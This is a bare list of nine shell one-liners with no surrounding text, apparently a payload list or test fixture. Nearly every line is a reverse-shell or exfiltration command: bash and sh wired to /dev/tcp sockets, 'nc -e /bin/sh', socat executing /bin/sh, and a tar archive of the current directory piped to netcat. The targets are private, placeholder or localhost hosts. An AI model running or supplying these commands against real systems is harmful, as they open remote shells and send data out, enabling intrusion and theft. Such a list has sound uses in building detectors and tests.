bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
nc -e /bin/sh 10.0.0.1 4444
exec 3<>/dev/tcp/x.example/80
socat TCP:x.example:1 EXEC:/bin/sh
tar c . | nc x.example 9000
sh </dev/tcp/x.example/80
cat </dev/tcp/x.example/80
bash -i >& /dev/tcp/127.0.0.1/4444 0>&1
(bash) <>/dev/tcp/localhost/80
